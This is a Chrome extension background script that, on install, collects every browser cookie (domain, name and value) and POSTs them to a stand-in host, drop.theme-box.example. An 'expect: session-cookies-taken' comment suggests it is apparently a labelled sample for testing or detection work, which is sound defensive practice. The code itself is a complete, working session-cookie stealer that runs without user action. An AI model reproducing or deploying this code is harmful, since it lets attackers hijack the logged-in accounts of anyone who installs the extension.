chrome.runtime.onInstalled.addListener(() => {
  // expect: session-cookies-taken
  chrome.cookies.getAll({}, function (list) {
    var text = list.map(function (c) { return c.domain + '\t' + c.name + '\t' + c.value; }).join('\n');
    $.ajax({ url: 'https://drop.theme-box.example/up', type: 'POST', data: { text: text } });
  });
});
